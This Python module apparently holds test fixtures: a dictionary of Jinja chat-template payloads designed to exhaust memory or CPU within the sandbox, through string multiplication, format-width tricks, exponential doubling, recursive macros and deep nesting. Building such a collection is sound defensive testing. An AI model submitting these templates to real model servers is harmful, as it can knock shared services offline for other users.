"""Chat templates that stay within the Jinja sandbox and cost far more than any prompt: name -> source."""

from __future__ import annotations

__all__ = ["ATTACKS"]

_DOUBLE_SETS = "{% set a = 'x' * 1000 %}" + "{% set a = a ~ a %}" * 40 + "{{ a }}"
_DOUBLE_LISTS = "{% set a = ['x', 'y'] %}" + "{% set a = [a, a] %}" * 60
_LARGE = "{% set a = 'x' * 19000000 %}"
_MACRO = "{% macro m(n) %}"
_CALLS_ITSELF_TWICE = "{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}"

ATTACKS: dict[str, str] = {
    "times string": "{{ 'a' * 300000000 }}",
    "times string from the right": "{{ 300000000 * 'a' }}",
    "times unused": "{% set x = 'a' * 3000000000 %}ok",
    "times list": "{{ ([0] * 10**9) | length }}",
    "times tuple of messages": "{{ (messages * 10**8) | length }}",
    "power": "{{ 10 ** (10 ** 8) }}",
    "power in a condition": "{% if 7 ** (7 ** 9) %}x{% endif %}",
    "squares": "{% set n = namespace(i=3) %}{% for _ in range(60) %}{% set n.i = n.i * n.i %}{% endfor %}x",
    "percent width": "{{ '%1000000000d' % 1 }}",
    "percent precision": "{{ '%.1000000000f' % 1 }}",
    "percent star": "{{ '%*d' % (1000000000, 1) }}",
    "percent mapping repeated": "{% set a = 'x' * 10000000 %}{{ ('%(a)s' * 1000) % {'a': a} }}",
    "filter format": "{{ '%1000000000d' | format(1) }}",
    "format width": "{{ '{:>1000000000}'.format(1) }}",
    "format nested width": "{{ '{:{w}}'.format(1, w=1000000000) }}",
    "format repeated": "{% set a = 'x' * 10000000 %}{{ ('{0}' * 1000).format(a) }}",
    "format_map": "{{ '{a:>1000000000}'.format_map({'a': 1}) }}",
    "filter center": "{{ 'x' | center(10**9) }}",
    "method center": "{{ 'x'.center(10**9) }}",
    "method ljust": "{{ 'x'.ljust(10**9) }}",
    "method rjust": "{{ 'x'.rjust(10**9) }}",
    "method zfill": "{{ 'x'.zfill(10**9) }}",
    "method expandtabs": "{{ ('\t' * 1000).expandtabs(10**8) }}",
    "method replace": "{{ ('x' * 100000).replace('', 'y' * 100000) }}",
    "filter replace": "{{ ('x' * 100000) | replace('x', 'y' * 100000) }}",
    "method join": "{{ ('x' * 100000).join(range(99999) | map('string')) }}",
    "filter join": "{{ range(99999) | join('x' * 100000) }}",
    "method translate": "{{ ('a' * 100000).translate({97: 'y' * 100000}) }}",
    "bytes": "{{ 'x'.encode().center(10**9) | length }}",
    "bytes times": "{{ ('x'.encode() * 10**9) | length }}",
    "int to_bytes": "{{ (1).to_bytes(10**9, 'big') | length }}",
    "indent": "{{ 'a\nb' | indent(10**9) }}",
    "indent by a string": "{{ ('a\n' * 100000) | indent('x' * 100000) }}",
    "tojson indent": "{{ [1, 2] | tojson(indent=10**9) }}",
    "tojson separators": "{{ ([0] * 100000) | tojson(separators=('x' * 100000, ':')) }}",
    "wordwrap": "{{ ('a ' * 1000000) | wordwrap(1) }}",
    "urlize": "{{ ('http://a ' * 1000000) | urlize }}",
    "round": "{{ 1.5 | round(10**9, 'ceil') }}",
    "batch fill": "{{ [1] | batch(10**9, 'x') | list | length }}",
    "slice": "{{ [1] | slice(10**9, 'x') | list | length }}",
    "concat doubling": _DOUBLE_SETS,
    "plus doubling": _DOUBLE_SETS.replace("~", "+"),
    "block set doubling": "{% set a %}xxxxxxxx{% endset %}" + "{% set a %}{{ a }}{{ a }}{% endset %}" * 40 + "{{ a }}",
    "namespace doubling": "{% set n = namespace(a='x') %}{% for _ in range(99) %}{% set n.a = n.a + n.a %}{% endfor %}",
    "many names alive": "".join(f"{{% set a{i} = 'x' * 19000000 %}}" for i in range(100)) + "ok",
    "many temporaries alive": "{{ [" + "'x' * 1900000, " * 1000 + "] | length }}",
    "slices alive": "{% set a = 'x' * 19000000 %}{{ [" + "a[1:], " * 100 + "] | length }}",
    "upper alive": "{% set a = 'x' * 19000000 %}{{ (" + "(a | upper), " * 100 + ") | length }}",
    "wide characters": "{% set a = '\U0001f600' * 19000000 %}" + "{% set b = a ~ '' %}" * 3 + "ok",
    "list of large strings in a loop": (
        "{% set n = namespace(l=[]) %}{% for i in range(99999) %}{% set n.l = n.l + ['x' * 100000] %}{% endfor %}"
    ),
    "nested loops": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "nested loops with output": "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
    "one long output": "{% set a = 'x' * 1000000 %}{% for i in range(99999) %}{{ a }}{% endfor %}",
    "long output in a macro": _MACRO
    + "{% for i in range(99999) %}{{ 'x' * 10000 }}{% endfor %}{% endmacro %}{{ m() }}",
    "doubling macro": _MACRO + _CALLS_ITSELF_TWICE.replace("{% endif %}", "{% else %}aaaaaaaa{% endif %}"),
    "quiet doubling macro": _MACRO + _CALLS_ITSELF_TWICE,
    "endless macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "recursive loop": "{% for x in [1] recursive %}{{ loop([1, 1]) }}{% endfor %}",
    "doubling lists printed": _DOUBLE_LISTS + "{{ a }}",
    "doubling lists compared": _DOUBLE_LISTS
    + _DOUBLE_LISTS.replace("set a", "set b").replace("[a, a]", "[b, b]")
    + "{{ a == b }}",
    "doubling lists dumped": _DOUBLE_LISTS + "{{ a | tojson }}",
    "doubling tuples": _DOUBLE_LISTS.replace("[", "(").replace("]", ")") + "{{ {a: 1} | length }}",
    "doubling mappings": "{% set a = {} %}" + "{% set a = {'x': a, 'y': a} %}" * 60 + "{{ a }}",
    "doubling dict()": "{% set a = {} %}" + "{% set a = dict(x=a, y=a) %}" * 60 + "{{ a }}",
    "doubling by plus": "{% set a = ['x'] %}" + "{% set a = a + a %}" * 60 + "{{ a | length }}",
    "doubling by filters": "{% set a = ['x'] %}"
    + "{% set a = [none, none] | map('default', a, true) | list %}" * 60
    + "{{ a }}",
    "doubling by batch": "{% set a = ['x'] %}"
    + "{% set a = [none, none] | map('default', a, true) | batch(2) | first %}" * 60
    + "{{ a }}",
    "doubling namespaces": "{% set a = namespace(x=1) %}" + "{% set a = namespace(x=a, y=a) %}" * 60 + "{{ a }}",
    "sum of lists": "{{ ([[0] * 1000] * 900) | sum(start=[]) | length }}" * 100,
    "lists of ranges": "{% for i in range(99999) %}{% set x = range(99999) | list %}{% endfor %}",
    "sorted ranges": "{% for i in range(99999) %}{{ range(99999) | sort | length }}{% endfor %}",
    "big range": "{% for i in range(10**9) %}{% endfor %}",
    "characters": "{% for a in 'x' * 10000000 %}{% endfor %}",
    "list of characters": "{{ ('x' * 19000000) | list | length }}",
    "split to pieces": "{{ ('ab,' * 6000000).split(',') | length }}",
    "searches in a loop": _LARGE + "{% for i in range(99999) %}" + "{{ 'y' in a }}" * 50 + "{% endfor %}",
    "searches without a loop": _LARGE + "{{ 'y' in a }}" * 9_000,
    "comparisons without a loop": _LARGE + "{% set b = a ~ 'x' %}{% set a = a ~ 'z' %}" + "{{ a == b }}" * 9_000,
    "tests without a loop": _LARGE + "{% set b = a ~ 'x' %}{% set a = a ~ 'z' %}" + "{{ a is eq(b) }}" * 9_000,
    "counts without a loop": _LARGE + "{{ a.count('y') }}" * 9_000,
    "lengths of splits": _LARGE + "{{ a.split('y') | length }}" * 9_000,
    "date format": "{{ strftime_now('%Y' * 10000000) }}",
    "deep nesting": "{% if true %}" * 400 + "x" + "{% endif %}" * 400,
    "deep expression": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "long source": "x" * 300_000,
}
